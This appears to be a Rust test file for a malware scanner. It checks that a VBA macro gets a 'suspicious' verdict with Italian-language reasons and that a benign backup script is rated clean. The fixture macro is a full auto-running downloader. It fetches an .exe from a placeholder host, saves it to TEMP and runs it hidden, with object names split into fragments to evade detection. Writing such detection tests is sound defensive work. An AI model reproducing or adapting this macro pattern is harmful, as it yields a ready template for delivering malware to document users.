//! What only looks like malware: suspicious with reasons in the session's language, never malicious. The macro is of our own
//! writing and leads nowhere.

use crate::stage::{put, scan, speaking};

const MACRO: &str = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nSet h = CreateObject(\"MSXML\" & \"2.XMLHTTP\")\r\n\
h.Open \"GET\", \"http://cdn.example.invalid/a\" & \".exe\", False\r\nh.send\r\nSet s = CreateObject(\"ADODB.St\" & \"ream\")\r\n\
s.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\", 2\r\n\
CreateObject(\"WScr\" & \"ipt.Shell\").Run Environ(\"TEMP\") & \"\\a.exe\", 0, False\r\nEnd Sub\r\n";

#[test]
fn a_macro_that_fetches_and_runs_is_suspicious_and_the_reasons_are_told() {
    let dir = tempfile::tempdir().unwrap();
    put(dir.path(), "Modulo.vba", MACRO);
    let ran = scan(dir.path(), &[]);
    assert_eq!((ran.code, ran.verdict("Modulo.vba").as_str()), (1, "suspicious"), "{}", ran.out);
    let line = ran.line("Modulo.vba");
    let found = line["findings"].as_array().unwrap().iter().find(|found| found["engine"] == "nature").unwrap();
    assert_eq!(found["name"], "vba_macro");
    let score = found["score"].as_u64().unwrap();
    assert!((40..75).contains(&score), "{score}");
    assert!((3..=5).contains(&found["reasons"].as_array().unwrap().len()), "{found}");
}

#[test]
fn an_italian_session_reads_italian_reasons() {
    let dir = tempfile::tempdir().unwrap();
    let path = put(dir.path(), "Modulo.vba", MACRO);
    let ran = speaking("it_IT.UTF-8", ["scan", path.to_str().unwrap()]);
    assert!(ran.out.contains("SOSPETTO") && ran.out.contains("macro di Office: "), "{}", ran.out);
    assert!(ran.out.contains("la macro parte da sola"), "{}", ran.out);
}

#[test]
fn an_honest_script_is_clean() {
    let dir = tempfile::tempdir().unwrap();
    put(dir.path(), "backup.sh", "#!/bin/sh\nset -eu\ntar -czf /mnt/backup.tar.gz /srv/documenti\n");
    let ran = scan(dir.path(), &[]);
    assert_eq!((ran.code, ran.verdict("backup.sh").as_str()), (0, "clean"), "{}", ran.out);
}
